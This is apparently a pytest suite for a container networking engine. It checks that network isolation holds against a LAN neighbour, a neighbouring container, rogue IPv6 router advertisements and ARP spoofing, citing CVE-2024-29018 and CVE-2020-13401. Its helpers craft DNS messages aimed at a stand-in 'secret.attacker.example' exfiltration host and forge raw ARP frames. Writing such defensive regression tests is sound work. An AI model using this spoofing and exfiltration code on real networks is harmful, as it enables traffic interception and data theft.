"""Attacks from the network: a neighbour on the LAN, a container beside, names that are to leave an internal network."""

import asyncio
import contextlib
import socket
import struct
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from engine.networks.options import PIN
from tests import needs, network_lab
from tests.network_frames import advertise_router, answered
from tests.network_lab import LAB_ADDRESS, PATIENCE, Lab, dns_question, looked_up

pytestmark = [needs.root, needs.binary("nft"), needs.binary("ip")]


@pytest.fixture
def town(tmp_path: Path) -> Iterator[Lab]:
    made = network_lab.town(tmp_path)
    yield made
    made.close()


def test_a_port_on_the_loopback_is_not_there_for_the_neighbour(town: Lab) -> None:
    """Frames with 127.0.0.1 in them: the translation comes before the kernel's own check."""
    with town.listen("web", 81), town.listen("web", 80):
        assert answered(town, "neighbour", LAB_ADDRESS, 8080, PATIENCE), (
            "the probe can be answered, and its sender is known"
        )
        for port in (8081, 8080):
            assert not answered(town, "neighbour", "127.0.0.1", port)
        assert not answered(town, "neighbour", "10.96.0.2", 81), "nor by the container's own address"


def test_a_container_cannot_reach_the_hosts_loopback(town: Lab) -> None:
    with town.listen("lab", 99, "127.0.0.1"), town.listen("lab", 98):
        assert not answered(town, "web", "127.0.0.1", 99)
        assert answered(town, "web", "10.96.0.1", 98, PATIENCE), "the probe can be answered"


def test_no_name_leaves_an_internal_network(tmp_path: Path) -> None:
    """CVE-2024-29018."""
    lab = Lab(tmp_path)
    asked: list[bytes] = []

    async def live() -> tuple[str, str]:
        server = lab.inside("lab", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        server.bind(("127.0.0.99", 53))
        asyncio.get_running_loop().add_reader(server, lambda: asked.append(server.recv(512)))
        networks = lab.networks(dns=("127.0.0.99",))
        await networks.open()
        await networks.create({"Name": "vault", "Internal": True, "IPAM": {"Config": [{"Subnet": "10.98.0.0/24"}]}})
        for name in ("safe", "other"):
            await networks.allocate(name, {}, {"NetworkMode": "vault"}, {"vault": {"Aliases": [f"{name}-alias"]}})
        inside = await asyncio.to_thread(looked_up, lab, "safe", "other-alias")
        await asyncio.to_thread(lab.inside, "safe", smuggle)
        outside = await asyncio.to_thread(looked_up, lab, "safe", "secret.attacker.example")
        await networks.close()
        asyncio.get_running_loop().remove_reader(server)
        server.close()
        return inside, outside

    try:
        assert lab.run(live) == ("10.98.0.3", "code 2")
        assert asked == []
    finally:
        lab.close()


def smuggle() -> None:
    """Messages that are no questions, or not quite, and could carry a secret all the same."""
    question = dns_question("secret.attacker.example")
    head = struct.Struct("!6H")
    for message in (
        head.pack(7, 0x2800, 1, 0, 0, 0) + question[12:],  # an update
        head.pack(7, 0x0100, 2, 0, 0, 0) + question[12:] * 2,
        question[:-2] + b"\0\3",  # of another class
        b"secret, and nothing else",
    ):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
            asking.sendto(message, ("127.0.0.11", 53))
        with socket.create_connection(("127.0.0.11", 53), 30) as stream:
            stream.sendall(len(message).to_bytes(2, "big") + message)
            answered = stream.recv(512)
            assert not answered or answered[5] & 0xF == 5, "refused, if anything"


def heard(lab: Lab, address: str, patience: float = 0.3) -> bool:
    """Whether a datagram arrives."""

    def bound() -> socket.socket:
        made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        made.bind((address, 5353))
        made.settimeout(patience)
        return made

    with lab.inside("db" if address == "10.97.0.3" else "safe", bound) as listening:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
            with contextlib.suppress(OSError):
                sending.sendto(b"hello", (address, 5353))
        try:
            return listening.recv(16) == b"hello"
        except TimeoutError:
            return False


def test_one_networks_containers_are_not_there_for_anothers(town: Lab) -> None:
    """By any protocol, whoever is asked to pass it on, and under a false sender's address too."""
    with town.listen("db", 80), town.listen("safe", 80):
        for address in ("10.97.0.3", "10.98.0.2"):
            assert not town.tries("web", address, 80)
            assert not answered(town, "web", address, 80)
            assert not town.inside("web", lambda to=address: heard(town, to))
        assert town.tries("app", "10.97.0.3", 80, PATIENCE), "it is there for its own"
        assert town.inside("app", lambda: heard(town, "10.97.0.3", PATIENCE))


def test_a_spoofed_router_is_believed_by_nobody(town: Lab) -> None:
    """CVE-2020-13401."""

    def state() -> list[str]:
        return [town.shell(name, "ip -6 route; ip -6 -o addr | grep -v fe80") for name in ("lab", "app")]

    before = state()
    town.inside("web", lambda: advertise_router("eth0"))
    time.sleep(0.3)
    assert state() == before
    assert "2001:db8:bad" not in "".join(before)


@pytest.mark.parametrize(("options", "believed"), [({}, True), ({PIN: "true"}, False)])
def test_a_false_address_is_believed_only_where_addresses_are_not_pinned(
    tmp_path: Path, options: dict[str, str], believed: bool
) -> None:
    """A container says by ARP that it is the database, and sends under the database's hardware address."""
    lab = Lab(tmp_path)

    async def live() -> None:
        networks = lab.networks()
        await networks.open()
        pools = {"Config": [{"Subnet": "10.96.0.0/24"}, {"Subnet": "fd96::/64"}]}
        await networks.create({"Name": "mine", "EnableIPv6": True, "Options": options, "IPAM": pools})
        for name in ("web", "db", "bad"):
            await networks.allocate(name, {}, {"NetworkMode": "mine"}, {})
        await networks.close()

    def spoof() -> None:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)) as wire:
            wire.bind(("eth0", 0x0806))
            own, target = wire.getsockname()[4], bytes.fromhex("02420a600002")
            claim = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own + socket.inet_aton("10.96.0.3") + target
            wire.send(target + own + b"\x08\x06" + claim + socket.inet_aton("10.96.0.2"))
            wire.send(target + bytes.fromhex("02420a600003") + b"\x08\x06" + bytes(28))

    def fdb() -> str:
        return lab.shell("lab", "bridge fdb show | grep 02:42:0a:60:00:03 | grep -v permanent | cut -d' ' -f3")

    try:
        lab.run(live)
        lab.shell("web", "echo 0 > /proc/sys/net/ipv4/neigh/eth0/locktime")
        with lab.listen("db", 80, "::"), lab.listen("bad", 80):
            assert lab.reach("web", "10.96.0.3", 80).endswith("10.96.0.2")
            assert lab.reach("web", "fd96::3", 80) == "fd96::2"
            before, entry, moved = fdb(), "", False
            for _ in range(10):  # the database speaks too, and is found again where it is
                lab.inside("bad", spoof)
                moved = moved or fdb() != before
                entry += lab.shell("web", "ip neigh show 10.96.0.3")
            assert ("02:42:0a:60:00:04" in entry, moved) == (believed, believed)
    finally:
        lab.close()
